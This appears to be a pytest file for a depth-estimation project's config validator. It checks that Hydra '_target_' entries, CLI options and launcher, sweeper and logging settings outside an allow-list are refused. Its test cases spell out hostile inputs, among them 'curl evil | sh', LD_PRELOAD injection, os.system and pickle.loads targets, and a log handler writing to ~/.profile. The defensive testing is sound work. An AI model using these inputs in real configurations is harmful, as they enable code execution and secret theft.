import importlib
import inspect
import logging.config
import re
from pathlib import Path

import pytest

from depthnet.allowed import ALLOWED, ALLOWED_CLASSES, check_hydra, check_options, check_targets
from depthnet.types import InputError

HOSTILE = [
    "os.system",
    "torch.load",
    "builtins.eval",
    "depthnet.models.depth_net.os.system",
    "depthnet.callbacks.os.system",
    "depthnet.callbacks.socket.create_connection",
    "depthnet.losses.DepthLossX",
    "lightning.Trainer.fit",
    "lightning.pytorch.callbacks.model_checkpoint.os.remove",
    "hydra.utils.instantiate",
    "albumentations.core.os.system",
    "depthnet.data.datamodule.DepthDataModule.__init__.__globals__",
    "depthnet..types",
    "depthnet.callbacks.write_text",
    "depthnet.callbacks.Path",
    "depthnet.data.datamodule.DepthDataModule.load_from_checkpoint",
    "depthnet.losses.DepthLoss\n",
    "albumentations.load",
    "albumentations.Compose.from_dict",
    "lightning.pytorch.callbacks.model_checkpoint",
    "lightning.pytorch.loggers.MLFlowLogger",
    "",
    None,
    5,
    ["os.system"],
]


@pytest.mark.parametrize("target", HOSTILE)
@pytest.mark.parametrize(
    "wrap", [lambda t: t, lambda t: {"a": {"b": t}}, lambda t: {"a": [1, [t]]}, lambda t: {"a": (t,)}]
)
def test_anything_outside_the_list_is_refused_wherever_it_stands(target, wrap):
    with pytest.raises(InputError, match="not on the list"):
        check_targets(wrap({"_target_": target}))


def test_what_conf_names_is_allowed():
    conf = Path(__file__).resolve().parent.parent / "conf"
    named = {name for path in conf.rglob("*.yaml") for name in re.findall(r"_target_: *([\w.]+)", path.read_text())}
    assert len(named) > 20
    for target in named - {"lightning.Trainer.fit"}:
        if not target.startswith(("hydra", "optuna")):
            check_targets({"a": [{"_target_": target}]})


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_a_name_on_the_list_is_where_it_says(name):
    parts, found = name.split("."), None
    for count in range(len(parts) - 1, 0, -1):
        try:
            found = importlib.import_module(".".join(parts[:count]))
        except ModuleNotFoundError:
            continue
        for part in parts[count:]:
            found = getattr(found, part)
        break
    assert callable(found)
    if name.startswith("depthnet."):
        assert found.__module__ == ".".join(parts[:count]), "a module of ours only imports it"


@pytest.mark.parametrize(
    ("words", "line"),
    [
        (["--info"], "--info: no option"),
        (["--run"], "--run: no option"),
        (["--shell-completion"], "no option"),
        (["-cjob"], "no option"),
        (["--cfg", "foo"], "--cfg foo: shows job, hydra or all"),
        (["-c"], "-c: shows job"),
        (["-p", "model"], "-p: goes with --cfg job"),
        (["--resolve"], "--resolve: goes with --cfg job"),
        (["--cfg=job", "-p"], "-p: needs a value"),
        (["--config-dir"], "--config-dir: needs a value"),
    ],
)
def test_an_option_works_or_is_refused_in_one_line(words, line):
    with pytest.raises(InputError, match=line):
        check_options(words)


def test_options_that_work_pass():
    for words in (["--help"], ["--hydra-help"], ["--cfg", "hydra"], ["--cfg=job", "--resolve", "-p", "model"], ["-m"]):
        check_options(words)


@pytest.mark.parametrize("package", ALLOWED_CLASSES)
def test_the_capitalised_names_of_an_allowed_package_are_classes(package):
    module = importlib.import_module(package.rstrip("."))
    names = [name for name in dir(module) if name[0].isupper()]
    assert len(names) > 20
    assert all(inspect.isclass(getattr(module, name)) for name in names)


def test_text_that_would_be_resolved_once_more_is_refused():
    with pytest.raises(InputError, match=r"a\.b\[0\].*second time"):
        check_targets({"a": {"b": ["${oc.decode:x}"]}})


SLURM = {
    "_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher",
    "partition": "gpu",
    "timeout_min": 60,
    "setup": None,
    "additional_parameters": {},
}
OPTUNA = {
    "_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper",
    "sampler": {"_target_": "optuna.samplers.TPESampler", "seed": 1},
    "params": {"optimizer.lr": "interval(1e-5,1e-2)"},
    "storage": None,
    "custom_search_space": None,
}
LOG_FILE = "${hydra.runtime.output_dir}/${hydra.job.name}.log"
SOUND = {
    "searchpath": [],
    "callbacks": {},
    "job": {"name": "train", "env_set": {}, "env_copy": []},
    "launcher": {"_target_": "hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher", "n_jobs": 2},
    "sweeper": OPTUNA,
    "job_logging": {
        "handlers": {
            "console": {"class": "logging.StreamHandler", "stream": "ext://sys.stderr"},
            "file": {"class": "logging.FileHandler", "filename": LOG_FILE},
        }
    },
    "hydra_logging": None,
}


def test_sweeps_launchers_and_logs_to_the_terminal_are_allowed():
    check_hydra(SOUND)
    check_hydra(SOUND | {"launcher": SLURM})
    check_hydra({})


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("searchpath", ["pkg://evil"]),
        ("callbacks", {"x": {"_target_": "hydra.experimental.callbacks.PickleJobInfoCallback"}}),
        ("job", {"env_set": {"LD_PRELOAD": "evil.so"}}),
        ("job", {"env_copy": ["SECRET"]}),
        ("launcher", {"_target_": "os.system"}),
        ("launcher", {"_target_": "hydra_plugins..os"}),
        ("launcher", {"_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.os.system"}),
        ("launcher", {"_target_": ["os.system"]}),
        ("launcher", SLURM | {"setup": ["curl evil | sh"]}),
        ("launcher", SLURM | {"additional_parameters": {"wrap": "evil"}}),
        ("launcher", SLURM | {"srun_args": ["--task-prolog=evil"]}),
        ("launcher", SLURM | {"_args_": ["evil"]}),
        ("launcher", SLURM | {"comment": "x\nevil #"}),
        ("sweeper", {"_target_": "optuna.samplers._cmaes.pickle.loads", "_args_": [b"evil"]}),
        ("sweeper", OPTUNA | {"custom_search_space": "os.system"}),
        ("sweeper", OPTUNA | {"storage": "redis://evil"}),
        ("sweeper", OPTUNA | {"storage": "${evil}"}),
        ("sweeper", OPTUNA | {"_args_": [None, "maximize", "redis://evil"]}),
        ("sweeper", {"_target_": "optuna.samplers.TPESampler", "x": [{"_target_": "os.system"}]}),
        ("job_logging", {"formatters": {"x": {"()": "os.system"}}}),
        ("job_logging", {"handlers": {"x": {"class": "logging.handlers.SocketHandler"}}}),
        ("job_logging", {"handlers": {"x": {"class": "logging.FileHandler", "filename": "/home/user/.profile"}}}),
        ("job_logging", {"handlers": {"x": {"class": "${x}"}}}),
        ("job_logging", {"handlers": {"x": {"stream": "ext://os.environ"}}}),
        ("hydra_logging", {"handlers": {"x": {"stream": "cfg://handlers.y"}}}),
        ("hydra_logging", {"formatters": {"x": {"format": "${oc.env:SECRET}"}}}),
    ],
)
def test_what_hydra_would_act_on_is_refused_with_its_place(part, value):
    with pytest.raises(InputError, match=rf"^hydra\.{part}") as told:
        check_hydra({**SOUND, part: value})
    assert "\n" not in str(told.value)


def test_a_log_config_that_passes_can_do_no_more_than_write_the_log(tmp_path):
    config = {"version": 1, "formatters": {"x": {"class": "os.system", "format": "x"}}}
    with pytest.raises(InputError, match="class"):
        check_hydra({"job_logging": config})
    with pytest.raises((TypeError, ValueError)):  # Python would have called it
        logging.config.dictConfig(config)


@pytest.mark.parametrize(
    "word", ["--experimental-rerun=x", "--exp=x", "--config-path=pkg://x", "-cp", "--config-p=x", "-cn", "-cdx", "-mc"]
)
def test_an_option_that_loads_code_is_refused(word):
    with pytest.raises(InputError, match="no option"):
        check_options(["data=rooms", word])


def test_ordinary_options_pass():
    check_options(["-m", "seed=1,2", "~trainer.x", "--config-dir", "mine", "optimizer.lr=-1"])
    check_options(["seed=1", "--cfg=job"])


@pytest.mark.parametrize("words", [("-m", "--cfg", "job"), ("--cfg=job", "--multirun"), ("-m", "-c", "job")])
def test_options_that_exclude_each_other_are_a_line(words):
    with pytest.raises(InputError, match="-m and --cfg exclude each other"):
        check_options(words)


def test_every_network_and_transform_may_be_built():
    for module in ("data.transforms", "models.basic", "models.depth_net", "models.published"):
        names = importlib.import_module(f"depthnet.{module}").__all__
        built = {f"depthnet.{module}.{name}" for name in names if name[0].isupper() and not name.isupper()}
        assert built
        assert built <= ALLOWED


def test_a_command_line_may_be_empty():
    check_options([])
